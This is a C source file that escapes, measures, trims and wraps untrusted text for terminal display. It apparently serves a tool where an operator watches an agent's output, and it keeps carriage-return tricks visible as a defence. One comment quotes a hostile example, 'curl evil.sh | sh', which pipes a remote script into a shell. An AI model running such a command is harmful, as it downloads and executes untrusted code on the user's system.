/*
 * text: escaping and measuring untrusted text for the terminal (text.h).
 *
 * Escaping is display_escape_buf() (src/util/display.c), the one display
 * function, with DISPLAY_WIDTH: widths come from wcwidth() for the current
 * LC_CTYPE and a character it calls unprintable is escaped, so every
 * character left in an escaped string has a known width.
 */
#include "autoconf.h"

#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <wchar.h>

#include "display.h"
#include "text.h"
#include "xalloc.h"

static bool	fmt_ascii_only;

/* Use ASCII only (a terminal that is not UTF-8). */
void
fmt_set_ascii(bool on)
{
	fmt_ascii_only = on;
}

/* Is ASCII-only mode on? */
bool
fmt_ascii(void)
{
	return fmt_ascii_only;
}

/* Columns of one decoded character (-1: not printable here). */
static int
fmt_cp_width(uint32_t c)
{
	if (display_is_hidden(c))
		return -1;
	if (c < 0x7f)
		return 1;
	if (fmt_ascii_only)
		return -1;
	return wcwidth((wchar_t)c);
}

/* Append bytes as printable UTF-8: the one display function, in the
   mode the terminal needs (widths known, ASCII if not UTF-8). */
void
fmt_escape_buf(struct buf *b, const char *s, size_t len)
{
	display_escape_buf(b, s, len, DISPLAY_WIDTH |
	    (fmt_ascii_only ? DISPLAY_ASCII : 0));
}

/*
 * Does segment a (before a carriage return) look like what b (after it)
 * redraws: a progress bar or counter? Then a terminal shows b where a
 * was and so does the pane. It is one when b covers all of a (at least as
 * many bytes, not counting trailing blanks) and either half of a's bytes
 * are b's at the same places, or a holds no letters (percentages,
 * spinners, bars). Anything else would hide text the operator should see
 * ("curl evil.sh | sh\rls -la" drawn as "ls -la"): the pane shows both,
 * the carriage return as \r.
 */
static bool
fmt_redraws(const char *a, size_t alen, const char *b, size_t blen)
{
	size_t	i, same = 0;
	bool	letters = false;

	while (alen > 0 && a[alen - 1] == ' ')
		alen--;
	while (blen > 0 && b[blen - 1] == ' ')
		blen--;
	if (blen < alen)
		return false;
	for (i = 0; i < alen; i++) {
		unsigned char c = (unsigned char)a[i];

		if (c == b[i])
			same++;
		if (c >= 0x80 || (c >= 'a' && c <= 'z') ||
		    (c >= 'A' && c <= 'Z'))
			letters = true;
	}
	return !letters || 2 * same >= alen;
}

/* One output line as a terminal would leave it, made safe to print. */
void
fmt_output_line(struct buf *b, const char *s, size_t len)
{
	struct buf	 c = BUF_INIT, u = BUF_INIT, t = BUF_INIT;
	const char	*cr, *next, *end;
	size_t		 i, col, seg, nlen;

	/* Colour and cursor sequences (CSI: parameters, intermediates,
	   one final byte) go first. */
	for (i = 0; i < len; i++) {
		if (s[i] == 0x1b && i + 1 < len && s[i + 1] == '[') {
			for (i += 2; i < len && ((unsigned char)s[i] < 0x40 ||
			    (unsigned char)s[i] > 0x7e); i++)
				;
			continue;
		}
		buf_putc(&c, s[i]);
	}
	s = c.data != NULL ? c.data : "";
	len = c.len;
	/* A progress bar redraws with \r: keep what was drawn last where
	   it covers what it replaces; any other \r stays, escaped. */
	while (len > 0 && s[len - 1] == '\r')
		len--;
	for (i = 0; i < len; i = (size_t)(cr - s) + 1) {
		if ((cr = memchr(s + i, '\r', len - i)) == NULL) {
			buf_add(&u, s + i, len - i);
			break;
		}
		seg = (size_t)(cr - s) - i;
		next = cr + 1;
		nlen = len - (size_t)(next - s);
		if ((end = memchr(next, '\r', nlen)) != NULL)
			nlen = (size_t)(end - next);
		if (!fmt_redraws(s + i, seg, next, nlen))
			buf_add(&u, s + i, seg + 1);
	}
	s = u.data != NULL ? u.data : "";
	len = u.len;
	for (i = 0; i < len; i++) {
		if (s[i] == '\t') {
			col = fmt_width_n(t.data != NULL ? t.data : "", t.len);
			do
				buf_putc(&t, ' ');
			while (++col % 8 != 0);
			continue;
		}
		buf_putc(&t, s[i]);
	}
	fmt_escape_buf(b, t.data != NULL ? t.data : "", t.len);
	buf_release(&c);
	buf_release(&u);
	buf_release(&t);
}

/* Is s safe to print as it is (escaped already, or typed clean)? */
bool
fmt_is_safe(const char *s)
{
	return display_is_safe(s, strlen(s), DISPLAY_WIDTH |
	    (fmt_ascii_only ? DISPLAY_ASCII : 0));
}

/* Text the operator typed, to show back: as typed when that is safe,
   escaped otherwise (a prompt pre-filled with an agent's text). */
char *
fmt_typed(const char *s)
{
	if (s == NULL)
		s = "";
	return fmt_is_safe(s) ? xstrdup(s) : fmt_escape(s);
}

/* fmt_escape_buf() of a string, as a new string. */
char *
fmt_escape(const char *s)
{
	struct buf	b = BUF_INIT;

	if (s == NULL)
		s = "";
	fmt_escape_buf(&b, s, strlen(s));
	if (b.data == NULL)
		return xstrdup("");
	return buf_detach(&b);
}

/* Columns of the character at s (an escaped string: always >= 0). */
static size_t
fmt_char(const char *s, size_t len, size_t *cols)
{
	uint32_t	c;
	size_t		n = display_utf8_decode(s, len, &c);
	int		w;

	if (n == 0) {
		*cols = 1;
		return 1;
	}
	w = fmt_cp_width(c);
	*cols = w < 0 ? 1 : (size_t)w;
	return n;
}

/* Display columns of an escaped string. */
size_t
fmt_width(const char *s)
{
	return fmt_width_n(s, strlen(s));
}

/* Display columns of the first len bytes. */
size_t
fmt_width_n(const char *s, size_t len)
{
	size_t	i = 0, w = 0, cw;

	while (i < len) {
		i += fmt_char(s + i, len - i, &cw);
		w += cw;
	}
	return w;
}

/* How many bytes fit in cols columns, never half a character. */
size_t
fmt_fit(const char *s, size_t cols, size_t *used)
{
	size_t	len = strlen(s), i = 0, w = 0, cw, n;

	while (i < len) {
		n = fmt_char(s + i, len - i, &cw);
		if (w + cw > cols)
			break;
		/* Zero-width characters stay with what they follow. */
		w += cw;
		i += n;
	}
	if (used != NULL)
		*used = w;
	return i;
}

/* The ellipsis and its width. */
static const char *
fmt_ellipsis(size_t *w)
{
	*w = 1;
	return fmt_ascii_only ? "~" : "\xe2\x80\xa6";
}

/* Cut to cols columns with an ellipsis; pad when asked. */
char *
fmt_trim(const char *s, size_t cols, bool pad)
{
	struct buf	 b = BUF_INIT;
	const char	*ell;
	size_t		 w = fmt_width(s), ew, used, n;

	buf_puts(&b, "");
	if (w <= cols) {
		buf_puts(&b, s);
		used = w;
	} else if (cols > 0) {
		ell = fmt_ellipsis(&ew);
		n = fmt_fit(s, cols - ew, &used);
		buf_add(&b, s, n);
		buf_puts(&b, ell);
		used += ew;
	} else
		used = 0;
	while (pad && used < cols) {
		buf_putc(&b, ' ');
		used++;
	}
	return buf_detach(&b);
}

/* Wrap into lines of cols columns, at spaces where possible, else after
   a '/' (a path wraps between its components, not in a name). */
void
fmt_wrap(const char *s, size_t cols, size_t indent, struct strv *lines)
{
	struct buf	 b = BUF_INIT;
	size_t		 len = strlen(s), i = 0, start, w, cw, n, brk, brkw;
	size_t		 avail, lead = 0;

	if (cols == 0)
		cols = 1;
	if (indent >= cols / 2)
		indent = 0;
	do {
		start = i;
		avail = cols - lead;
		w = 0;
		brk = 0;
		brkw = 0;
		while (i < len && s[i] != '\n') {
			n = fmt_char(s + i, len - i, &cw);
			if (w + cw > avail && i > start)
				break;
			i += n;
			w += cw;
			if (s[i - 1] == ' ' || (s[i - 1] == '/' && i < len &&
			    s[i] != '/' && s[i] != ' ')) {
				brk = i;
				brkw = w;
			}
		}
		/* Cut after the last space when the line is full. */
		if (i < len && s[i] != '\n' && brk > start && brkw > avail / 3)
			i = brk;
		buf_reset(&b);
		for (size_t k = 0; k < lead; k++)
			buf_putc(&b, ' ');
		buf_add(&b, s + start, i - start);
		while (b.len > lead && b.data[b.len - 1] == ' ' && i < len)
			b.data[--b.len] = '\0';
		strv_push(lines, b.data != NULL ? b.data : "");
		if (i < len && s[i] == '\n') {
			i++;
			lead = 0;
			if (i == len)
				strv_push(lines, "");
		} else
			lead = indent;
	} while (i < len);
	buf_release(&b);
}

